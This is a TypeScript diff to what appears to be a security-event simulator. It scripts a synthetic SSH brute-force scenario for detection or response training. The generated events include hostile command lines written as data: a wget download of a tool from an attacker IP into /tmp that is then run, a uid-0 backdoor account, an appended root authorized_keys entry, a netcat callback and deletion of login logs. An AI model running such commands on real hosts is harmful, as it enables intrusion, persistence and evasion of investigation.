@@ -4,14 +4,17 @@ import { LOG_SIGNATURES, logLine } from "../events/host-event.ts";
 import { run } from "../events/process-event.ts";
 import type { Host } from "../hosts.ts";
 import { GUESSED_USERS } from "../names.ts";
+import { strangeAccount, strangePort, strangeProgram } from "../props.ts";
 import { failedLogin, strangerAddress } from "../routine/internet-noise.ts";
-import { atHost, wait } from "../scene.ts";
+import { atHost, cause, wait } from "../scene.ts";
 import type { Scene, Script, Stage } from "../scene.ts";
-import { openSession, sudo, type } from "../ssh-session.ts";
-import type { Session } from "../ssh-session.ts";
+import { drawPids, openSession, sessionOf, sudo, type } from "../ssh-session.ts";
+import type { Session, SessionPids } from "../ssh-session.ts";
 import { MINUTE_MS } from "../../seeded/time.ts";
 import { asRoot, loginAccount } from "../unix-account.ts";
-import { momentOf, phase } from "./story.ts";
+import type { UnixAccount } from "../unix-account.ts";
+import { cleanHost } from "./response.ts";
+import { castHost, factsOf, momentOf, tell } from "./story.ts";
 import type { Story, StoryOptions } from "./story.ts";
 
 interface Cast {
@@ -23,89 +26,107 @@ interface Cast {
   readonly guesses: readonly string[];
   readonly backdoor: string;
   readonly tool: string;
+  readonly port: string;
+  readonly as: UnixAccount;
+  readonly pids: SessionPids;
+  readonly successAt: number;
 }
 
 /** Password guessing over SSH that ends in a success, a downloaded tool and a user of the attacker's own. */
-export function sshBruteForce({ world, random, start }: StoryOptions): Story {
-  const id = "ssh-brute-force";
+export function sshBruteForce(options: StoryOptions): Story {
+  const { world, random, start } = options;
+  const user = random.pick(["deploy", "backup", "support"]);
+  const login = { session: random.int(9100, 9900), tty: `pts${random.int(3, 9)}` };
+  const successAt = start + random.int(24, 40) * MINUTE_MS;
   const cast: Cast = {
-    host: random.pick([...world.hostsOf("web"), ...world.hostsOf("bastion")]),
+    user,
+    as: loginAccount(user, 1998, login),
+    pids: drawPids(random),
+    successAt,
+    host: castHost(options, [...world.hostsOf("web"), ...world.hostsOf("bastion")]),
     srcIp: strangerAddress(random),
     dropIp: strangerAddress(random),
-    user: random.pick(["deploy", "backup", "support"]),
-    guesses: random.sample(GUESSED_USERS, 3),
-    backdoor: random.pick(["sysadm", "netmon", "svc-log", "dbus2"]),
-    tool: random.pick(["kthreadd", "xmr-lite", "sshd-helper", "udevd"]),
+    guesses: random.sample(GUESSED_USERS, random.int(3, 7)),
+    backdoor: strangeAccount(random),
+    tool: `${random.pick(["/tmp", "/var/tmp", "/dev/shm"])}/${strangeProgram(random)}`,
+    port: String(strangePort(random)),
   };
-  const successAt = start + random.int(24, 40) * MINUTE_MS;
-  return {
-    outcome: {
-      id,
-      verdict: "attack",
-      summary: `${cast.srcIp} guessed the password of ${cast.user} on ${cast.host.name} and installed ${cast.tool}`,
-      facts: [
-        { kind: "address", text: cast.srcIp },
-        { kind: "address", text: cast.dropIp },
-        { kind: "user", text: cast.user },
-        { kind: "user", text: cast.backdoor },
-        { kind: "host", text: cast.host.name },
-        { kind: "tool", text: `/tmp/${cast.tool}` },
-        { kind: "time", text: momentOf(successAt) },
-      ],
-    },
-    activities: [
-      phase(id, { name: "guessing", start }, (stage) => guess(stage, cast, successAt)),
-      phase(id, { name: "inside", start: successAt }, (stage) => comeIn(stage, cast)),
+  const settleAt = successAt + random.int(8, 14) * MINUTE_MS;
+  const { host, srcIp, tool, backdoor } = cast;
+  return tell(options, {
+    id: "ssh-brute-force",
+    kind: "attack",
+    platforms: ["linux"],
+    rootCause: `${srcIp} logged in as ${user} on ${host.name} with a guessed password`,
+    chapters: [
+      {
+        name: "guessing",
+        start,
+        deed: `${srcIp} guessed passwords on ${host.name}`,
+        facts: factsOf(["address", srcIp], ["host", host.name], ["user", user]),
+        perform: (stage) => guess(stage, cast),
+      },
+      {
+        name: "inside",
+        start: successAt,
+        deed: `logged in as ${user} and started ${tool}`,
+        facts: factsOf(["tool", tool], ["address", cast.dropIp], ["time", momentOf(successAt)]),
+        perform: (stage) => comeIn(stage, cast),
+      },
+      {
+        name: "settling",
+        start: settleAt,
+        deed: `made itself root as ${backdoor}`,
+        facts: factsOf(["user", backdoor], ["object", "/root/.ssh/authorized_keys"]),
+        perform: (stage) => settle(stage, cast),
+      },
     ],
-  };
+    response: cleanHost({
+      host,
+      lines: [`iptables -I INPUT -s ${srcIp} -j DROP`, `passwd -l ${user}`, `rm -f ${tool}`],
+    }),
+  });
 }
 
-function* guess(stage: Stage, { host, srcIp, user, guesses }: Cast, until: number): Script {
+function* guess(stage: Stage, { host, srcIp, user, guesses, successAt }: Cast): Script {
   const scene = atHost(stage, host);
   const { random, clock } = stage;
-  while (clock.now < until - 10_000) {
+  let isFirst = true;
+  while (clock.now < successAt - 10_000) {
     const isKnown = random.chance(0.45);
     const name = isKnown ? user : random.pick(guesses);
-    yield failedLogin(scene, { user: name, srcIp, isKnown });
+    const event = failedLogin(scene, { user: name, srcIp, isKnown });
+    yield isFirst ? cause(stage, event) : event;
+    isFirst = false;
     wait(stage, 2000, 9000);
   }
 }
 
 function* comeIn(stage: Stage, cast: Cast): Script {
-  const { host, user, srcIp, dropIp, tool } = cast;
+  const { host, srcIp, dropIp, tool, as, pids } = cast;
   const scene = atHost(stage, host);
-  const as = loginAccount(user, 1998, { session: stage.random.int(9100, 9900), tty: "pts7" });
-  const session = yield* openSession(scene, as, srcIp);
-  for (const line of [
-    "id",
-    "uname -a",
-    "cat /etc/passwd",
-    "w",
-    "last -n 20",
-    "crontab -l",
-    "ls -la /home",
-  ]) {
+  const session = yield* openSession(scene, as, { srcIp, pids, isCause: true });
+  const looks = ["id", "uname -a", "cat /etc/passwd", "w", "last -n 20", "crontab -l", "ip addr"];
+  for (const line of stage.random.sample([...looks, "ls -la /home", "nproc", "free -m"], 7)) {
     wait(stage, 2000, 25_000);
     yield* type(scene, session, line);
   }
   wait(stage, 4000, 20_000);
-  const wget = yield* type(scene, session, `wget -q http://${dropIp}/${tool} -O /tmp/${tool}`);
-  yield connect(scene, {
-    as,
-    process: wget,
-    argv: ["wget", "-q", `http://${dropIp}/${tool}`],
-    parent: session.shell,
-    remote: { ip: dropIp, port: 80 },
-  });
-  yield* type(scene, session, `chmod +x /tmp/${tool}`);
+  const line = `wget -q http://${dropIp}/${tool.slice(tool.lastIndexOf("/") + 1)} -O ${tool}`;
+  const wget = yield* type(scene, session, line);
+  const socket = { as, process: wget, argv: line.split(" "), parent: session.shell };
+  yield connect(scene, { ...socket, remote: { ip: dropIp, port: 80 } });
+  yield* type(scene, session, `chmod +x ${tool}`);
   wait(stage, 1000, 5000);
-  yield* type(scene, session, `/tmp/${tool} --daemon`);
-  yield* settle(scene, session, cast);
+  yield* type(scene, session, `${tool} --daemon`);
 }
 
 // Root, a user of the attacker's own, a key to come back with, and traces removed.
-function* settle(scene: Scene, session: Session, { backdoor, dropIp, tool }: Cast): Script {
-  wait(scene, 10_000, 40_000);
+function* settle(stage: Stage, cast: Cast): Script {
+  const { host, backdoor, dropIp, tool, port, as, pids, successAt } = cast;
+  const scene = atHost(stage, host);
+  const session = sessionOf(as, { pids, openedAt: successAt });
+  stage.clock.lastPid = pids.shell + 200;
   const useradd = yield* sudo(scene, session, `useradd -o -u 0 -m ${backdoor}`);
   yield logLine(scene, {
     signature: LOG_SIGNATURES.newUser,
@@ -115,38 +136,36 @@ function* settle(scene: Scene, session: Session, { backdoor, dropIp, tool }: Cas
     pid: useradd.pid,
   });
   wait(scene, 3000, 20_000);
-  const root = asRoot(session.as);
-  const tee = yield* sudo(scene, session, "tee -a /root/.ssh/authorized_keys");
+  const root = asRoot(as);
+  const argv = ["tee", "-a", "/root/.ssh/authorized_keys"];
+  const tee = yield* sudo(scene, session, argv.join(" "));
   yield touch(scene, {
     as: root,
     process: tee,
-    argv: ["tee", "-a", "/root/.ssh/authorized_keys"],
+    argv,
     filename: "/root/.ssh/authorized_keys",
     action: "modify",
   });
   wait(scene, 3000, 20_000);
-  const nc = yield* run(scene, {
-    as: root,
-    exe: "/usr/bin/nc",
-    argv: ["nc", dropIp, "4443"],
-    parent: session.shell,
-  });
-  yield connect(scene, {
-    as: root,
-    process: nc,
-    argv: ["nc", dropIp, "4443"],
-    parent: session.shell,
-    remote: { ip: dropIp, port: 4443 },
-  });
+  yield* callBack(scene, { as: root, session, argv: ["nc", dropIp, port] });
   for (const line of [
-    `ps aux`,
-    `pgrep ${tool}`,
+    "ps aux",
+    `pgrep -f ${tool}`,
     "ss -tn",
     "history -c",
     "rm -f /var/log/wtmp",
-    "rm -rf /home/.cache",
   ]) {
     wait(scene, 2000, 20_000);
     yield* type(scene, session, line);
   }
+}
+
+function* callBack(
+  scene: Scene,
+  { as, session, argv }: { as: Session["as"]; session: Session; argv: readonly string[] },
+): Script {
+  const [, ip = "", port] = argv;
+  const spec = { as, argv, parent: session.shell };
+  const nc = yield* run(scene, { ...spec, exe: "/usr/bin/nc" });
+  yield connect(scene, { ...spec, process: nc, remote: { ip, port: Number(port) } });
 }
